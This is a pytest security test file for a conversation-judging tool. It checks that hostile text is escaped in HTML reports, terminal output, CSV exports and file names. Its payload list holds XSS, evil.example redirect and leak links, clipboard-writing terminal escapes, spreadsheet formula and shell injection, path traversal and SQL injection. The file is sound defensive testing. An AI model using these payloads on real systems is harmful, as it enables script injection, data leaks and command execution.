"""Text that wants to run, to escape or to pass for something else, in every field, on every surface.

Every hostile text stands in a conversation of its own as id, user, scenario, context, candidate, message,
tool call, profile, metadata, rating and note; and a model judge says it in its replies. Then every page,
line, table and file is looked at.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from contextlib import redirect_stderr, redirect_stdout
from html.parser import HTMLParser
from pathlib import Path

import pytest

from browser import binary, measure
from in_process import run_main
from parsed_pages import without_own_script
from servers.openai_stub import OpenAIStub
from servers.verdicts import fill

BEACON = "document.title='OWNED'"
HOSTILE = {
    "script": f"<script>{BEACON}</script>",
    "script in capitals": f"<ScRiPt>{BEACON}</sCrIpT >",
    "image": f'<img src=x onerror="{BEACON}">',
    "svg": f'<svg onload="{BEACON}"><script>{BEACON}</script></svg>',
    "iframe": f'<iframe srcdoc="<script>parent.{BEACON}</script>"></iframe>',
    "style": f"</style></title></textarea></details></main><img src=x onerror={BEACON}>",
    "attribute": f'" onmouseover="{BEACON}" autofocus onfocus="{BEACON}" x="',
    "attribute in single quotes": f"' onerror='{BEACON}' x='",
    "link": f'<a href="javascript:{BEACON}">x</a>',
    "comment": "<!-- --> ]]> <![CDATA[ <?php ?>",
    "entity": "&lt;script&gt;&#x3c;b&#62;&amp;",
    "base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "markdown image": "![x](https://evil.example/?leak=1) [x](javascript:alert(1))",
    "template": "{{ 7 * 7 }} {% raw %} {{ config }} {# x #} ${7*7} #{7*7} %s {0}",
    "right to left": "invoice\u202etxt.exe \u2066x\u2069",
    "zero width": "pay\u200bpal \u2060 \ufeff ad\u00admin",
    "colour": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "osc 8": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc 52": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "c1": "\x9b31mred\x9d52;c;eA==\x9c \x90q\x9c",
    "backspace": "safe\x08\x08\x08\x08evil\x7f",
    "carriage return": "safe\revil",
    "line break": "x\nreport: forged\r\n\u2028next\u2029\x85\x0b\x0c",
    "nul": "a\x00b",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula call": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "feed": "\n=1+1",
    "wide formula": "＝1+1",
    "quote and formula": '","=1+1',
    "parent": "../../../etc/passwd",
    "parent on windows": "..\\..\\evil.exe",
    "absolute": "/etc/cron.d/evil",
    "reserved": "CON",
    "device": "/dev/sda",
    "dot": "..",
    "option": "-rf",
    "shell": "$(touch owned) `touch owned` ; touch owned | touch owned & %PATH%",
    "long": "L" * 5000,
    "run file": "run.db",
    "sql": "'; DROP TABLE units; --",
    "json": '{"conversation_id": "x", "scores": {"helpfulness": 5}}',
    "prototype": "__proto__",
}
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FILES = {"run.db", "manifest.json", "summary.json", "judgements.jsonl", "report.html", ".lock"}

RUBRIC = """
id = "hostile"
version = '{text}'
level = "conversation"
languages = ["en"]
shows = ["dialogue", "scenario", "earlier_summary"]
template = '''{text} {{{{scenario}}}} {{{{earlier_summary}}}} {{{{dialogue}}}} {{{{asked}}}}
{{{{dimensions}}}} {{{{reply_format}}}}'''
[[dimensions]]
name = "kindness"
description = '{text}'
anchors = {{ 1 = '{text}', 5 = "good" }}
[[dimensions]]
name = "calm"
level = "turn"
description = '{text}'
[[labels]]
name = "mood"
description = '{text}'
options = [{{ name = "good", description = '{text}' }}, {{ name = "bad", description = '{text}' }}]
[reply]
note = true
issues = true
evidence = true
decision_basis = true
weakest_turn = true
[verdict]
rule = "thresholds"
dimension = "kindness"
at_least = {{ '{text}' = 1.0, '{text} better' = 4.0 }}
"""


def record(text: str) -> dict[str, object]:
    call = {"id": text, "type": "function", "function": {"name": text, "arguments": text}}
    return {
        "conversation_id": text,
        "user_id": text,
        "scenario": text,
        "scenario_description": text,
        "candidate": text,
        "profile": {text: text},
        text: text,
        "ratings": {text: text},
        "messages": [
            {"role": "system", "content": text},
            {"role": "user", "content": f"{text} When does it open?", text: text, "name": text},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": text, "content": text, "name": text},
            {"role": "assistant", "content": text, "rating": text},
            {"role": "user", "content": f"No! {text} I asked when it opens."},
            {"role": "assistant", "content": f"{text} {text}"},
        ],
    }


class Run:
    """A folder in which commands were run, and all that they printed."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.out: dict[str, bytes] = {}
        self.printed: dict[str, bytes] = {}

    def __call__(self, name: str, *words: object) -> None:
        out, err = (io.TextIOWrapper(io.BytesIO(), encoding="utf-8", newline="") for _ in range(2))
        with pytest.MonkeyPatch.context() as patch, redirect_stdout(out), redirect_stderr(err):
            patch.chdir(self.folder)
            patch.setenv("DIALOGAUGE_CACHE", str(self.folder / "cache"))
            patch.setattr(sys, "argv", ["dialogauge", *map(str, words)])
            run_main()
        for stream in (out, err):
            stream.flush()
        self.out[name] = out.buffer.getvalue()
        self.printed[name] = self.out[name] + err.buffer.getvalue()

    def read(self, name: str) -> str:
        return (self.folder / name).read_text(encoding="utf-8")


def says(body: dict[str, object]) -> str:
    """Reply as a judge that was taken over: every free text is hostile."""
    wanted = body.get("response_format", {}).get("json_schema")
    if wanted is None:
        return "fine"
    found = re.search(r"ZQ(\d+)Z", json.dumps(body["messages"]))
    text = list(HOSTILE.values())[int(found[1]) % len(HOSTILE)] if found else "fine"
    value = fill(wanted["schema"], 2)
    for entry in value.get("per_turn", {}).values():
        entry["issues"] = [text, f"{text} again"]
        if "note" in entry:
            entry["note"] = text
    for whole in value.get("conversation_level", {}).values():
        whole["note"] = text
    for entry in value.get("scores", {}).values():
        entry["note"] = text
    value.update({k: text for k in ("decision_basis",) if k in value})
    if "weakest_turn" in value:
        value["weakest_turn"] = 1
    return json.dumps(value)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    run = Run(tmp_path_factory.mktemp("hostile") / "inner" / "work")
    run.folder.mkdir(parents=True)
    log = "\n".join(json.dumps(record(text)) for text in HOSTILE.values())
    (run.folder / "log.jsonl").write_text(log, encoding="utf-8")
    bad = [{"conversation_id": t, "messages": [{"role": t, "content": t}]} for t in HOSTILE.values()]
    (run.folder / "bad.jsonl").write_text("\n".join(map(json.dumps, bad)), encoding="utf-8")
    rows = "\n".join(
        json.dumps({"conversation_id": t + "?", "score": 9, "dimension": t}) for t in HOSTILE.values()
    )
    (run.folder / "ratings.jsonl").write_text(rows, encoding="utf-8")
    run("judge", "judge", "log.jsonl", "-o", "run")
    run("check", "check", "log.jsonl", "--pii")
    run("check json", "check", "log.jsonl", "--json")
    run("check bad", "check", "bad.jsonl", "--ratings", "ratings.jsonl")
    run("judge bad", "judge", "bad.jsonl", "--ratings", "ratings.jsonl", "-o", "bad")
    run("judge bad json", "judge", "bad.jsonl", "-o", "bad", "--json")
    run("strict", "judge", "bad.jsonl", "-o", "strict", "--strict")
    tasks = [
        {**record(t), "agent": t, "domain": t, "task_id": n, "reward": n % 2, "gold_outputs": [t, f"{t} too"]}
        for n, t in enumerate(HOSTILE.values())
    ]
    (run.folder / "tasks.jsonl").write_text("\n".join(map(json.dumps, tasks)), encoding="utf-8")
    run("success", "success", "tasks.jsonl", "--kind", "tau", "-o", "success")
    run("report", "report", "run", "-o", "again.html")
    for ending in ("csv", "jsonl", "parquet"):
        run(f"export {ending}", "export", "run", "-o", f"out.{ending}")
    run("pairs kto", "pairs", "run", "--kind", "kto", "--unchecked", "-o", "kto.jsonl")
    dimension = HOSTILE["image"]
    rated = [
        {
            "conversation_id": t,
            "turn": turn,
            "score": 1 + (n + turn) % 5,
            "dimension": HOSTILE["image"],
            "rater": t,
        }
        for n, t in enumerate(HOSTILE.values())
        for turn in (1, 2)
    ]
    (run.folder / "rated.jsonl").write_text("\n".join(map(json.dumps, rated)), encoding="utf-8")
    pair = f"helpfulness={dimension}"
    run("agreement", "agreement", "run", "--ratings", "rated.jsonl", "--dimension", pair, "-o", "agreement")
    run("trust", "trust", "run", "--ratings", "rated.jsonl")
    _judge_by_model(run)
    return run


def _judge_by_model(run: Run) -> None:
    numbered = [{**record(t), "scenario": f"ZQ{n}Z {t}"} for n, t in enumerate(HOSTILE.values())]
    for one in numbered:
        one["messages"][0]["content"] = one["scenario"]
    (run.folder / "numbered.jsonl").write_text("\n".join(map(json.dumps, numbered)), encoding="utf-8")
    text = HOSTILE["image"].replace("'", '"')
    rubric = RUBRIC.format(text=text.replace("\\", "\\\\"))
    (run.folder / "rubric.toml").write_text(rubric.replace("'<", "'<"), encoding="utf-8")
    with OpenAIStub(says) as stub:
        model = ("--model", HOSTILE["svg"], "--base-url", stub.url)
        run("model", "judge", "numbered.jsonl", *model, "-o", "model")
        run(
            "rubric",
            "judge",
            "numbered.jsonl",
            *model,
            "--rubric",
            "rubric.toml",
            "-o",
            "rubric",
            "--limit",
            5,
        )
        run("turns", "judge", "numbered.jsonl", *model, "--rubric", "td-turn", "-o", "turns")
        run("doctor", "doctor", *model)
    run("export model", "export", "model", "-o", "model.csv")


@pytest.mark.long
def test_everything_was_judged(run: Run) -> None:
    unread = {(HOSTILE["zero width"], "unsupported_language")}  # signs within its words make it no English
    for name, expected in (("run", unread), ("model", set())):
        rows = [json.loads(line) for line in run.read(f"{name}/judgements.jsonl").splitlines()]
        assert {r["conversation_id"] for r in rows} == set(HOSTILE.values())
        assert {(r["conversation_id"], r["failure"]["kind"]) for r in rows if r["failure"]} == expected
    issues = {
        i for line in run.read("model/judgements.jsonl").splitlines() for i in json.loads(line)["issues"]
    }
    assert {t.strip() for t in HOSTILE.values()} - issues == set()
    assert json.loads(run.read("rubric/summary.json"))["scored"] > 0
    rows = [json.loads(line) for line in run.read("turns/judgements.jsonl").splitlines()]
    notes = {note for row in rows for note in row["details"].get("notes", {}).values()}
    assert {t.strip() for t in HOSTILE.values()} - notes == set()
    checked = [json.loads(line) for line in run.read("success/judgements.jsonl").splitlines()]
    assert len(checked) == len(HOSTILE)
    assert any(row["issues"] for row in checked)


PAGES = (
    "run/report.html",
    "again.html",
    "model/report.html",
    "rubric/report.html",
    "turns/report.html",
    "success/report.html",
    "bad/report.html",
    "agreement/agreement.html",
)


class Tags(HTMLParser):
    """Collects elements, attributes and comments."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.values: list[tuple[str, str, str]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            self.values.append((tag, name, value or ""))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


@pytest.mark.parametrize("page", PAGES)
def test_no_element_and_no_attribute_comes_from_data(run: Run, page: str) -> None:
    tags = Tags()
    tags.feed(without_own_script(run.read(page)))
    assert tags.elements.isdisjoint(
        {"script", "img", "iframe", "object", "embed", "base", "form", "link", "image"}
    )
    assert not any(
        name.startswith("on") or name in ("src", "srcdoc", "action") for _, name in tags.attributes
    )
    assert tags.comments == []
    for tag, name, value in tags.values:
        assert name != "href" or re.fullmatch(r"#[\w-]+", value), (tag, value)
        assert "evil" not in value
        assert "OWNED" not in value
        assert "\u202e" not in value


@pytest.mark.parametrize("page", PAGES)
def test_a_page_shows_what_hides(run: Run, page: str) -> None:
    text = run.read(page)
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]", text
    )
    if page == "run/report.html":
        assert "⟨U+202E⟩" in text
        assert "49" not in re.sub(r"<[^>]*>", "", text.split("{{ 7 * 7 }}")[1][:40])


@pytest.mark.long
@pytest.mark.chromium
@pytest.mark.skipif(binary() is None, reason="no Chromium")
@pytest.mark.parametrize("page", PAGES)
def test_nothing_runs_even_without_the_policy(run: Run, page: str, tmp_path: Path) -> None:
    """Chromium opens the page with its policy taken out: what were not escaped would run and say so."""
    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", run.read(page))
    script = (
        "for (const e of d.querySelectorAll('*')) e.dispatchEvent(new w.Event('mouseover'));"
        "return [d.title, d.scripts.length, d.images.length, w.top.document.title,"
        "[...d.querySelectorAll('a')].filter(a => !a.getAttribute('href').startsWith('#')).length]"
    )
    title, scripts, images, outer, links = measure(html, tmp_path, script, width=1000)
    assert "OWNED" not in title + outer
    ours = html != without_own_script(html)
    assert (scripts, images, links) == (ours, 0, 0)


@pytest.mark.chromium
@pytest.mark.skipif(binary() is None, reason="no Chromium")
def test_the_beacon_works_where_nothing_is_escaped(tmp_path: Path) -> None:
    html = f"<!doctype html><title>x</title><body>{HOSTILE['image']}</body>"
    assert measure(html, tmp_path, "return d.title", width=500) == "OWNED"


def test_a_terminal_gets_visible_characters_only(run: Run) -> None:
    for name, printed in run.printed.items():
        text = printed.decode("utf-8")
        found = {c for c in text if not (c.isprintable() or c in "\n\u3000\u200c\u200d")}
        assert not found, (name, found)


def test_no_line_is_forged(run: Run) -> None:
    for name, printed in run.printed.items():
        lines = printed.decode("utf-8").split("\n")
        assert not any(line.startswith("report: forged") for line in lines), name


@pytest.mark.parametrize("name", ["check json", "judge bad json"])
def test_json_on_the_terminal_is_json(run: Run, name: str) -> None:
    found = json.loads(run.out[name])
    if name == "check json":
        assert set(found["ratings"]["rating"]) <= set(HOSTILE.values()) | {
            t.strip() for t in HOSTILE.values()
        }


@pytest.mark.parametrize("file", ["out.csv", "model.csv"])
def test_no_cell_is_a_formula(run: Run, file: str) -> None:
    raw = (run.folder / file).read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    header, rows = rows[0], rows[1:]
    assert len(rows) == 3 * len(HOSTILE)
    numbers = {
        "turn",
        "repeat",
        "weakest_turn",
        "calls",
        "cached",
        "prompt_tokens",
        "completion_tokens",
        "cost",
    }
    for row in rows:
        assert len(row) == len(header)
        for name, cell in zip(header, row, strict=True):
            if name in numbers or name.startswith("score_"):
                assert re.fullmatch(r"-?[0-9.]*", cell)
            else:
                assert not cell.startswith(LEADS), (name, cell)
    ids = {row[0].replace("'", "") for row in rows}
    assert ids == {t.replace("'", "") for t in HOSTILE.values()}
    cells = [c.lstrip(' "') for row in csv.reader(io.StringIO(raw, newline=""), delimiter=";") for c in row]
    assert not [c for c in cells[1:] if c.startswith(LEADS)]


@pytest.mark.parametrize("file", ["run/judgements.jsonl", "model/judgements.jsonl", "out.jsonl", "kto.jsonl"])
def test_every_line_is_one_json_object(run: Run, file: str) -> None:
    lines = (run.folder / file).read_bytes().split(b"\n")
    assert lines.pop() == b""
    assert all(isinstance(json.loads(line), dict) for line in lines)
    if "judgements" in file or file == "out.jsonl":
        assert len(lines) == 3 * len(HOSTILE)


def test_parquet_keeps_every_id(run: Run) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    found = parquet.read_table(run.folder / "out.parquet").column("conversation_id").to_pylist()
    assert set(found) == set(HOSTILE.values())


def test_no_file_is_named_after_data(run: Run) -> None:
    given = {"rated.jsonl", "log.jsonl", "bad.jsonl", "numbered.jsonl", "ratings.jsonl", "rubric.toml"}
    given.add("tasks.jsonl")
    written = {"again.html", "out.csv", "out.jsonl", "out.parquet", "model.csv"}
    written |= {"agreement", "agreement/agreement.json", "agreement/agreement.html"}
    written |= {f"kto.{ending}" for ending in ("jsonl", "provenance.jsonl", "accelerate.yaml", "kto.yaml")}
    found = set()
    for path in run.folder.rglob("*"):
        parts = path.relative_to(run.folder).parts
        if parts[0] in ("run", "model", "rubric", "turns", "success", "bad", "strict"):
            assert len(parts) == 1 or (len(parts) == 2 and parts[1] in FILES), parts
        elif parts[0] == "cache":
            assert all(re.fullmatch(r"[\w.-]+", part) for part in parts)
        else:
            found.add("/".join(parts))
    assert found == given | written
    assert [p.name for p in run.folder.parent.iterdir()] == ["work"]
    assert [p.name for p in run.folder.parent.parent.iterdir()] == ["inner"]
